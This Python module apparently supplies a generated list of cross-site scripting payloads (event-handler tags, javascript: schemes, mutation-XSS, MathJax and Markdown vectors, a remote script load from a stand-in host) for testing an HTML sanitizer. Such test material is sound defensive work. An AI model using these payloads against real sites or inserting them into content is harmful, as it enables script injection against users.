"""Texts that try to run a script wherever they are shown."""

from __future__ import annotations

from itertools import product

_CODE = "alert(1)"
_EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onbegin", "ontoggle", "onstart")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "math",
    "a href=x",
)
_BREAKS = ('"', "'", '">', "'>", "</p>", "</code>", "</math>", "</textarea>", "-->", "]]>")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:", "&#106;avascript:")
_ODD = (
    "<script>alert(1)</script>",
    "<script src=//x.example/a.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<style>@import 'x'</style>",
    "<link rel=stylesheet href=x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//x.example/>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<template><script>alert(1)</script></template>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\\text{<img src=x onerror=alert(1)>}",
    "\\text{</mtext></math><script>alert(1)</script>}",
    "\\href{javascript:alert(1)}{x}",
    "\\style{background:url(javascript:alert(1))}{x}",
    "\\class{x' onclick='alert(1)}{x}",
    "\\unicode{<script>}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p style='background:url(javascript:alert(1))'>x",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "{{7*7}}{% debug %}",
    "\u202e<script>alert(1)</script>",
    "<img src=/questions/media/../../logout alt=x>",
)
PAYLOADS = tuple(
    [f"<{tag} {event}={_CODE}>" for tag, event in product(_TAGS, _EVENTS)]
    + [f"{end}<img src=x onerror={_CODE}>" for end in _BREAKS]
    + [f'<a href="{scheme}{_CODE}">x</a>' for scheme in _SCHEMES]
    + [f"[x]({scheme}{_CODE})" for scheme in _SCHEMES]
    + list(_ODD)
)
